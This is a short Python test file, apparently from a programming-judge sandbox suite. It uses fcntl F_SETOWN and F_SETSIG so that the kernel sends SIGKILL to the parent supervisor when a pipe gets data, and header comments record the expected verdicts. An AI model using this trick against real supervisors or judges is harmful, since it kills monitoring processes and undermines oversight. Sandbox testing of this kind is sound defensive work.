# Has the kernel send a signal to its parent when a pipe has data (F_SETOWN).
# sandbox: AC
# without: AC|JE
# leaves: a dead supervisor
# dangerous: to a user whose programs have the same rights
import contextlib
import fcntl
import os
import signal
import time

F_SETSIG = 10
reader, writer = os.pipe()
with contextlib.suppress(OSError):
    fcntl.fcntl(reader, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(reader, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writer, b"x")
    time.sleep(0.05)
print(input())
